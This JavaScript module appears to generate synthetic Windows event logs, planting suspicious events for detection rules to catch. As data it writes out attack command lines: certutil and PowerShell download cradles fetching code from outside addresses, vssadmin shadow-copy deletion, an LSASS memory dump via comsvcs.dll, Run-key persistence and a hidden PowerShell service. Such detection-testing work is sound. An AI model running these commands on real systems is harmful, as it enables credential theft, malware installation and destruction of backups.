/**
 * The few suspicious events among the many, by channel: each is an ordinary kind of event with telling values, and is
 * found by goshawk's own rules as well as by SigmaHQ's. Invariant: no two are alike.
 */

import { brand, outerAddress, word } from '../words.mjs'
import { scriptBlock } from './powershell.mjs'
import { auditedStart } from './security-processes.mjs'
import { registrySet } from './sysmon-files.mjs'
import { processAccess, seenStart } from './sysmon-processes.mjs'
import { serviceInstalled } from './system.mjs'

const SYSTEM = 'C:\\Windows\\System32\\'

/** What was started, and how. */
const STARTS = [
  (n) => [
    `${SYSTEM}certutil.exe`,
    `certutil.exe -urlcache -split -f http://${outerAddress(n)}/${word(n)}.exe C:\\Users\\Public\\${brand(n)}.exe`,
  ],
  (n) => [`${SYSTEM}vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet /for=C: ${n}`],
  (n) => [
    `${SYSTEM}rundll32.exe`,
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${500 + (n % 4000)} C:\\Windows\\Temp\\${brand(n)}.dmp full`,
  ],
  (n) => [
    `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`,
    `powershell.exe -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${outerAddress(n)}/${n}')`, 'utf16le').toString('base64')}`,
  ],
]

/** Puts values into the fields of a kind. */
function withValues(kind, values, changes) {
  for (const [name, value] of Object.entries(changes)) values[kind.names.indexOf(name)] = value
  return values
}

const plant = (kind, changesOf) => ({
  kind,
  draw: (activity) =>
    withValues(kind, kind.draw(activity), changesOf(activity.random.u32(), activity.random)),
})

export const PLANTED = {
  security: [
    plant(auditedStart, (n) => {
      const [path, commandLine] = STARTS[n % STARTS.length](n >>> 2)
      return { NewProcessName: path, CommandLine: commandLine }
    }),
  ],
  sysmon: [
    plant(seenStart, (n) => {
      const [path, commandLine] = STARTS[n % STARTS.length](n >>> 2)
      const file = path.slice(path.lastIndexOf('\\') + 1)
      return { Image: path, OriginalFileName: file, Description: file, CommandLine: commandLine }
    }),
    plant(processAccess, (n) => ({
      SourceImage: `C:\\Users\\Public\\${brand(n)}.exe`,
      TargetImage: `${SYSTEM}lsass.exe`,
      GrantedAccess: 0x1010,
      CallTrace: `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2b0f1|UNKNOWN(${n.toString(16)})`,
    })),
    plant(registrySet, (n) => ({
      TargetObject: `HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${brand(n)}`,
      Details: `powershell.exe -nop -w hidden -File C:\\Users\\Public\\${word(n)}${n}.ps1`,
    })),
  ],
  powershell: [
    plant(scriptBlock, (n) => ({
      ScriptBlockText: `IEX (New-Object Net.WebClient).DownloadString('http://${outerAddress(n)}/${word(n)}.ps1'); Invoke-${brand(n)}`,
    })),
  ],
  system: [
    plant(serviceInstalled, (n) => ({
      ServiceName: `${brand(n)}${n % 100}`,
      ImagePath: `%COMSPEC% /c powershell.exe -nop -w hidden -enc ${Buffer.from(`start ${n}`, 'utf16le').toString('base64')}`,
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    })),
  ],
}
